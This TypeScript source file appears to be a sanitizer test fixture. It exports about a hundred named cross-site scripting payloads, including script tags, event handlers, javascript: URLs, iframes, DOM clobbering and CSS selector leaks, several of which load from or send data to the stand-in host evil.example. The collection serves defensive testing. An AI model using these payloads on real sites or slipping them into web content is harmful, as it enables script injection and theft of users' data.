const picture = '<img src=/nowhere.png onerror=hacked()>';

/** HTML that runs a script or replaces a part of the page by its elements and attributes. */
export const hostileElements: Readonly<Record<string, string>> = {
  'script element': '<script>hacked()</script>',
  'script in capitals': '<SCRIPT>hacked()</SCRIPT>',
  'script with a source': '<script src="https://evil.example/a.js"></script>',
  'script as a module': '<script type=module>hacked()</script>',
  'script with a data source': '<script src="data:text/javascript,hacked()"></script>',
  'script without an end': '<script>hacked()//',
  'script with a slash in its name': '<script/x>hacked()</script>',
  'script with a space in its end': '<script>hacked()</script >',
  'import map':
    '<script type=importmap>{"imports":{"react":"data:text/javascript,hacked()"}}</script>',
  'image with onerror': '<img src=/nowhere.png onerror="hacked()">',
  'image with onload': '<img src=/favicon.svg onload="hacked()">',
  'handler without quotes': '<img src=/nowhere.png onerror=hacked()>',
  'handler in capitals': '<img src=/nowhere.png ONERROR=hacked()>',
  'handler after a slash': '<img/src=/nowhere.png/onerror=hacked()>',
  'handler after a form feed': '<img\fsrc=/nowhere.png\fonerror=hacked()>',
  'handler without a space before it': '<img src="/nowhere.png"onerror="hacked()">',
  'handler in back ticks': '<img src=/nowhere.png onerror=`hacked()`>',
  'handler with entities': '<img src=/nowhere.png onerror="&#104;acked&#40;&#41;">',
  'handler with spaces around the sign': '<img src=/nowhere.png onerror \n = \n hacked()>',
  'handler after an unclosed quote': `<img src="/nowhere.png' onerror="hacked()">`,
  'image as an unknown alias': '<image src=/nowhere.png onerror=hacked()>',
  'source set': '<img srcset="javascript:hacked() 1x, /nowhere.png 2x" onerror=hacked()>',
  'picture with a source':
    '<picture><source srcset="javascript:hacked()"><img onerror=hacked() src=/nowhere.png></picture>',
  'image map':
    '<map name=m><area shape=default href="javascript:hacked()">area</map><img usemap=#m src=/favicon.svg>',
  'low-resolution source': '<img lowsrc="javascript:hacked()" dynsrc="javascript:hacked()">',
  'body with onload': '<body onload=hacked()>',
  'body with onpageshow': '<body onpageshow=hacked() onfocus=hacked()>',
  'body with a background': '<body background="javascript:hacked()">',
  frameset: '<frameset onload=hacked()><frame src="javascript:hacked()"></frameset>',
  'iframe with a script URL': '<iframe src="javascript:parent.hacked()"></iframe>',
  'iframe with a document': '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
  'iframe with an encoded document':
    '<iframe srcdoc="&lt;script&gt;parent.hacked()&lt;/script&gt;"></iframe>',
  'iframe with onload':
    '<iframe src="https://www.youtube.com/embed/abcdefghijk" onload=hacked()></iframe>',
  'iframe of a redirect':
    '<iframe src="https://www.youtube.com/redirect?q=https://evil.example/"></iframe>',
  'iframe of a parent folder':
    '<iframe src="https://www.youtube.com/embed/../redirect?q=evil.example"></iframe>',
  'iframe of another host': '<iframe src="https://evil.example/"></iframe>',
  'iframe with an allow list':
    '<iframe allow="camera; microphone" sandbox src="https://evil.example/"></iframe>',
  'object with data': '<object data="javascript:hacked()"></object>',
  'object with HTML':
    '<object data="data:text/html,<script>parent.hacked()</script>" type=text/html></object>',
  'object with a parameter': '<object><param name=src value="javascript:hacked()"></object>',
  'embed element': '<embed src="javascript:hacked()">',
  'applet element': '<applet code="javascript:hacked()" codebase="https://evil.example/"></applet>',
  'form with an action': '<form action="javascript:hacked()"><input type=submit value=go></form>',
  'button with a form action': '<form><button formaction="javascript:hacked()">go</button></form>',
  'button of another form':
    '<form id=f></form><button form=f formaction="javascript:hacked()">go</button>',
  'input of type image':
    '<input type=image src=/nowhere.png onerror=hacked() formaction="javascript:hacked()">',
  'input with autofocus': '<input autofocus onfocus=hacked()>',
  'select with autofocus': '<select autofocus onfocus=hacked()></select>',
  'text area with autofocus': '<textarea autofocus onfocus=hacked()></textarea>',
  'key generator': '<keygen autofocus onfocus=hacked()>',
  'editable element with focus': '<div contenteditable autofocus onfocus=hacked()>edit</div>',
  'element with a tab index': '<b tabindex=1 autofocus onfocus=hacked()>b</b>',
  'details with ontoggle': '<details open ontoggle=hacked()><summary>s</summary></details>',
  'popover with ontoggle':
    '<button popovertarget=p>go</button><div popover id=p onbeforetoggle=hacked()>p</div>',
  'dialog element':
    '<dialog open onclose=hacked()><form method=dialog><button>close</button></form></dialog>',
  'video with a broken source': '<video><source onerror=hacked() src=/nowhere.mp4></video>',
  'audio with onerror': '<audio src=/nowhere.mp3 onerror=hacked() autoplay></audio>',
  'video with a poster': '<video poster="javascript:hacked()" src=x onerror=hacked()></video>',
  'track in a video':
    '<video controls><track default src="javascript:hacked()" oncuechange=hacked()></video>',
  'marquee with onstart': '<marquee onstart=hacked() loop=1>m</marquee>',
  'bgsound element': '<bgsound src="javascript:hacked()">',
  'animation with onanimationstart': '<b style="animation:spin 1s" onanimationstart=hacked()>b</b>',
  'transition with ontransitionend':
    '<b style="transition:color 1s" ontransitionend=hacked()>b</b>',
  'pointer handlers': '<b onpointerover=hacked() onmouseover=hacked() onclick=hacked()>b</b>',
  'wheel and scroll handlers': '<b onwheel=hacked() onscroll=hacked() onscrollend=hacked()>b</b>',
  'copy and paste handlers':
    '<b oncopy=hacked() oncut=hacked() onpaste=hacked() onbeforeinput=hacked()>b</b>',
  'handler of a future event': '<b onfutureevent=hacked()>b</b>',
  'visibility handler':
    '<b oncontentvisibilityautostatechange=hacked() style="content-visibility:auto">b</b>',
  'base element': '<base href="https://evil.example/">',
  'base element with a script': '<base href="javascript:/a/-hacked()//"><a href="b">x</a>',
  'meta refresh': '<meta http-equiv=refresh content="0;url=javascript:hacked()">',
  'meta refresh to data':
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>hacked()</script>">',
  'meta with a policy': `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">`,
  'meta with a character set': '<meta charset=utf-7>+ADw-script+AD4-hacked()+ADw-/script+AD4-',
  'link with a style sheet': '<link rel=stylesheet href="https://evil.example/a.css">',
  'link with onload': '<link rel=stylesheet href="/nowhere.css" onload=hacked() onerror=hacked()>',
  'link with an HTML import': '<link rel=import href="data:text/html,<script>hacked()</script>">',
  'link with a preload': '<link rel=modulepreload href="https://evil.example/a.js">',
  'link with a manifest': '<link rel=manifest href="https://evil.example/a.json">',
  'custom element': '<x-player onclick=hacked() onfocus=hacked() tabindex=0 autofocus>x</x-player>',
  'customised built-in element': '<button is="x-player" onclick=hacked()>x</button>',
  'shadow root': `<div><template shadowrootmode=open>${picture}</template></div>`,
  'slot and part': '<slot name=a onslotchange=hacked()><b part=x exportparts=y slot=z>b</b></slot>',
  'clobbered document property': '<form name=cookie><input name=getElementById id=body></form>',
  'clobbered attributes':
    '<form onmouseover=hacked()><input name=attributes><input name=nodeName></form>',
  'clobbered global': '<a id=hacked href="javascript:hacked()">x</a><a id=hacked name=url>y</a>',
  'clobbered ids of the page': '<div id=root><a id=main name=content>x</a></div>',
  'class of the page': '<div class="fixed inset-0 z-50">covers the page</div>',
  'link with a ping': '<a href="https://example.com" ping="https://evil.example/">x</a>',
  'link with a download': '<a href="/api/v1/user" download="a.html">x</a>',
  'link with an opener': '<a href="https://example.com" target=other rel=opener>x</a>',
  'style attribute':
    '<div style="position:fixed;inset:0;background:url(https://evil.example/)">s</div>',
  'style with an expression': '<div style="width:expression(hacked())">s</div>',
  'style with a binding':
    '<div style="-moz-binding:url(https://evil.example/a.xml#a);behavior:url(a.htc)">s</div>',
  'style element': '<style>@import "https://evil.example/a.css";</style>',
  'style element with a selector':
    '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
  'style with a script URL': `<div style="background:url('javascript:hacked()')">s</div>`,
  'style with escaped characters': String.raw`<div style="width:e\78pression(hacked());list-style:url(\6aavascript:hacked())">s</div>`,
  'table with a background':
    '<table background="javascript:hacked()"><td background="javascript:hacked()">t</table>',
  'cite of a quote':
    '<blockquote cite="javascript:hacked()"><q cite="javascript:hacked()">q</q></blockquote>',
  'layer and long description':
    '<layer src="javascript:hacked()"></layer><img longdesc="javascript:hacked()">',
  'data attributes of frameworks':
    '<div data-inline-toolbar=true ng-app x-data x-init="hacked()" v-html="hacked()">{{constructor.constructor("hacked()")()}}</div>',
  'attributes for scripts':
    '<a hx-get="https://evil.example/" hx-on:click="hacked()" @click="hacked()" href="#">x</a>',
  'microdata and roles':
    '<div itemscope itemid="javascript:hacked()" role=dialog aria-modal=true aria-owns=root>r</div>',
  'portal and fenced frame':
    '<portal src="javascript:hacked()"></portal><fencedframe src="https://evil.example/"></fencedframe>',
};
